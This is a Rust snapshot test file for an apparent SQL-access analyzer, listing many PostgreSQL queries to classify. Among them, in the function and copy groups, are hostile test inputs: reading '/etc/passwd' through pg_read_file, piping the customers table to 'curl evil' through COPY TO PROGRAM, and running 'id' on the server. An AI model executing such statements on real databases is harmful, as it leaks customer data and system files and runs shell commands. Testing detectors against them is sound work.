//! Readings, group by group.
//!
//! Each group is one snapshot: the statement, then what it is read as.

use super::*;

#[test]
fn plain_queries() {
    assert_read!(readings(&[
        "SELECT 1",
        "SELECT id, email FROM customers",
        "SELECT email AS e FROM customers c",
        "SELECT * FROM customers",
        "SELECT c.* FROM customers c WHERE c.email = 'a@b.c'",
        "TABLE orders",
        "VALUES (1, 'a'), (2, 'b')",
        "SELECT count(*) FROM customers",
        "SELECT count(email) FROM customers",
        "SELECT left(email, 5) FROM customers",
        "SELECT email::varchar, email::text FROM customers",
        "SELECT email COLLATE \"C\" FROM customers",
        "SELECT name || ' <' || email || '>' FROM customers",
        "SELECT CASE WHEN email LIKE 'a%' THEN id ELSE 0 END FROM customers",
        "SELECT coalesce(email, phone, name) FROM customers",
        "SELECT tags[1], meta->'a' FROM customers",
        "SELECT public.customers.email, customers.ctid FROM public.customers",
        "SELECT shop.public.customers.email FROM customers",
        "SELECT $1::text, current_user, now()",
        "SELECT id FROM customers ORDER BY email DESC LIMIT 5 OFFSET (SELECT max(id) FROM orders)",
        "SELECT DISTINCT name, email FROM customers",
        "SELECT DISTINCT ON (email) name FROM customers",
        "SELECT name n, count(*) FROM customers GROUP BY n HAVING max(email) > 'a' ORDER BY 2",
        "SELECT id FROM customers FOR UPDATE SKIP LOCKED",
        "SELECT row_number() OVER (PARTITION BY name ORDER BY email), sum(id) OVER w FROM customers WINDOW w AS (ORDER BY phone)",
        "SELECT count(*) FILTER (WHERE email = 'x'), string_agg(name, ',' ORDER BY email) FROM customers",
        "SELECT c, row_to_json(c), (c).email, ROW(c.*) FROM customers c",
        "SELECT relname FROM pg_class",
        "SELECT last_value FROM orders_id_seq",
    ]));
}

#[test]
fn names_that_nobody_knows() {
    assert_read!(readings(&[
        "SELECT nosuch FROM customers",
        "SELECT a.x FROM nosuch a",
        "SELECT * FROM nosuch",
        "SELECT x.y FROM customers",
        "SELECT c.id FROM customers c JOIN nosuch n ON n.id = c.id",
        "SELECT other.public.customers.email FROM other.public.customers",
        "SELECT * FROM pg_toast.pg_toast_16384",
        "SELECT most_common_vals FROM pg_catalog.pg_stats",
    ]));
}

#[test]
fn joins_and_subqueries() {
    assert_read!(readings(&[
        "SELECT c.email, o.total FROM customers c JOIN orders o ON o.customer_id = c.id AND c.name <> ''",
        "SELECT email FROM customers JOIN archive USING (id, email)",
        "SELECT email FROM customers FULL JOIN archive USING (email)",
        "SELECT id FROM customers JOIN letters USING (id)",
        "SELECT * FROM customers NATURAL JOIN archive",
        "SELECT j.email FROM (customers JOIN archive USING (email)) j",
        "SELECT s.mail FROM (SELECT email AS mail, name FROM customers WHERE phone IS NOT NULL) s",
        "SELECT s.b FROM (SELECT name, email FROM customers) s(a, b)",
        "SELECT (SELECT c.email FROM customers c WHERE c.id = o.customer_id), o.id FROM orders o",
        "SELECT EXISTS (SELECT 1 FROM customers WHERE email = 'x')",
        "SELECT id FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE email = 'x')",
        "SELECT id = ANY (SELECT customer_id FROM orders) FROM customers",
        "SELECT ARRAY(SELECT email FROM customers)",
        "SELECT l.email FROM orders o, LATERAL (SELECT email FROM customers c WHERE c.id = o.customer_id) l",
        "SELECT t.tag FROM customers c, unnest(c.tags) AS t(tag)",
        "SELECT * FROM generate_series(1, 3) g, jsonb_each_text((SELECT meta FROM customers)) e",
        "SELECT x.* FROM reveal(1) x",
        "SELECT * FROM customers TABLESAMPLE system (10)",
        "SELECT id FROM letters UNION SELECT id FROM customers",
        "SELECT email FROM customers UNION ALL SELECT name FROM customers ORDER BY 1",
    ]));
}

#[test]
fn common_tables() {
    assert_read!(readings(&[
        "WITH c AS (SELECT email FROM customers) SELECT email FROM c",
        "WITH c(x) AS (SELECT email FROM customers) SELECT upper(x) FROM c",
        "WITH customers AS (SELECT 1 AS email) SELECT email FROM customers",
        "WITH customers AS (SELECT * FROM customers) SELECT email FROM customers",
        "WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b",
        "WITH RECURSIVE t AS (SELECT id, name FROM employees WHERE manager_id IS NULL UNION ALL SELECT e.id, e.name FROM employees e JOIN t ON t.id = e.manager_id) SELECT * FROM t",
        "WITH RECURSIVE t(a, b) AS (SELECT 1, name FROM customers UNION SELECT a + 1, email FROM t, customers) SELECT a, b FROM t",
        "WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a",
        "WITH d AS (DELETE FROM customers WHERE id = 1 RETURNING id, email) SELECT email FROM d",
        "WITH i AS (INSERT INTO archive SELECT id, email FROM customers) SELECT 1",
        "WITH u AS (UPDATE orders SET note = '' RETURNING id), d AS (DELETE FROM items) SELECT * FROM u",
        "WITH x AS (SELECT email FROM customers) DELETE FROM archive USING x WHERE archive.email = x.email",
    ]));
}

#[test]
fn views_and_computed_columns() {
    assert_read!(readings(&[
        "SELECT id, mail, domain FROM contacts",
        "SELECT mail FROM mails",
        "SELECT * FROM odd",
        "SELECT first, full_name FROM people",
        "SELECT actor FROM events",
        "UPDATE contacts SET mail = '' WHERE id = 1",
    ]));
}

#[test]
fn functions_and_operators() {
    assert_read!(readings(&[
        "SELECT upper(email) FROM customers",
        "SELECT lower(name) FROM customers",
        "SELECT pg_catalog.lower(name) FROM customers",
        "SELECT digest(email) FROM customers",
        "SELECT hidden.peek(id) FROM customers",
        "SELECT nosuch(email) FROM customers",
        "SELECT pg_nosuch()",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_sleep(1), pg_advisory_lock(1)",
        "SELECT version(), pg_get_viewdef(1)",
        "SELECT query_to_xml('SELECT email FROM customers', true, true, '')",
        "SELECT lo_get(1)",
        "SELECT c.reveal FROM customers c",
        "SELECT ('/etc/passwd').pg_read_file",
        "SELECT (c).upper FROM customers c",
        "SELECT nextval('orders_id_seq'), currval('public.\"orders_id_seq\"'::regclass), lastval()",
        "SELECT nextval(name::regclass) FROM customers",
        "SELECT setval('orders_id_seq_x'::varchar(13), 1)",
        "SELECT setval(' 16400'::oid, 1)",
        "SELECT set_config('role.x'::varchar(4), 'admin', false)",
        "SELECT current_setting('data_directory_mode'::varchar(14))",
        "SELECT id <=> 1, name @@@@ 'x' FROM customers",
        "SELECT id OPERATOR(pg_catalog.+) 1, id OPERATOR(hidden.+) 1 FROM customers",
        "SELECT name !!! 'x' FROM customers",
        "SELECT current_setting('TimeZone'), current_setting('data_directory')",
        "SELECT id FROM customers ORDER BY id USING OPERATOR(hidden.<)",
        "SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY email) FROM customers",
        "SELECT xmlelement(name a, email), json_build_object('a', email) FROM customers",
        "SELECT JSON_OBJECT('a' : email), JSON_VALUE(meta, '$.a'), meta IS JSON FROM customers",
        "SELECT j.x FROM customers, JSON_TABLE(meta, '$' COLUMNS (x text PATH '$.a')) j",
    ]));
}

#[test]
fn changes() {
    assert_read!(readings(&[
        "INSERT INTO customers (id, email) VALUES (1, 'a')",
        "INSERT INTO customers VALUES (1, 'a')",
        "INSERT INTO customers DEFAULT VALUES RETURNING id",
        "INSERT INTO archive SELECT id, email FROM customers",
        "INSERT INTO archive (note) SELECT 'x' FROM customers WHERE email = 'a'",
        "INSERT INTO archive (note) VALUES ((SELECT max(email) FROM customers))",
        "INSERT INTO customers (id, email) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET email = excluded.email, name = customers.name WHERE customers.phone IS NULL RETURNING *",
        "INSERT INTO customers (id) VALUES (1) ON CONFLICT DO NOTHING",
        "INSERT INTO ledger VALUES (1, 2)",
        "INSERT INTO nosuch (a) VALUES (1) RETURNING a",
        "UPDATE customers SET email = 'a' WHERE id = 1",
        "UPDATE customers SET name = email",
        "UPDATE customers SET email = lower(email) WHERE true",
        "UPDATE customers c SET name = o.note FROM orders o WHERE o.customer_id = c.id RETURNING c.name, o.note",
        "UPDATE customers SET (name, phone) = (email, '1') WHERE id = $1",
        "UPDATE customers SET (name, phone) = (SELECT email, note FROM archive LIMIT 1)",
        "UPDATE customers SET tags[1] = 'x' RETURNING old.email, new.tags",
        "UPDATE customers SET active = DEFAULT WHERE CURRENT OF c",
        "DELETE FROM customers",
        "DELETE FROM ONLY customers c USING orders o WHERE o.customer_id = c.id RETURNING c.email",
        "MERGE INTO customers c USING archive a ON a.id = c.id WHEN MATCHED AND a.note = 'x' THEN DELETE WHEN MATCHED THEN UPDATE SET email = a.email WHEN NOT MATCHED THEN INSERT (id, email) VALUES (a.id, a.email)",
        "MERGE INTO customers c USING archive a ON true WHEN NOT MATCHED BY SOURCE THEN DELETE WHEN NOT MATCHED THEN DO NOTHING RETURNING merge_action(), c.email",
        "TRUNCATE customers, orders CASCADE",
    ]));
}

#[test]
fn streams_plans_and_copies() {
    assert_read!(readings(&[
        "COPY customers TO STDOUT",
        "COPY customers (id, email) TO STDOUT WITH (FORMAT csv)",
        "COPY people TO STDOUT",
        "COPY (SELECT email FROM customers WHERE id = 1) TO STDOUT",
        "COPY (DELETE FROM customers RETURNING email) TO STDOUT",
        "COPY customers FROM STDIN",
        "COPY customers (id) FROM STDIN WHERE id > 0",
        "COPY customers TO '/tmp/x'",
        "COPY customers FROM '/tmp/x'",
        "COPY customers TO PROGRAM 'curl evil'",
        "COPY (SELECT 1) TO PROGRAM 'id'",
        "EXPLAIN SELECT email FROM customers WHERE phone = '1'",
        "EXPLAIN DELETE FROM customers",
        "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM customers",
        "EXPLAIN (ANALYZE off) UPDATE customers SET name = email",
        "EXPLAIN ANALYZE SELECT pg_read_file('x')",
        "EXPLAIN SELECT reveal(1)",
        "EXPLAIN (ANALYZE) CREATE TABLE x AS SELECT email FROM customers",
        "SELECT email INTO copies FROM customers",
        "CREATE TABLE copies AS SELECT id, email FROM customers",
        "CREATE TEMP TABLE copies AS TABLE customers",
        "CREATE MATERIALIZED VIEW copies AS SELECT email FROM customers WITH NO DATA",
        "REFRESH MATERIALIZED VIEW CONCURRENTLY contacts",
        "CREATE TABLE copies AS SELECT * FROM nosuch",
    ]));
}
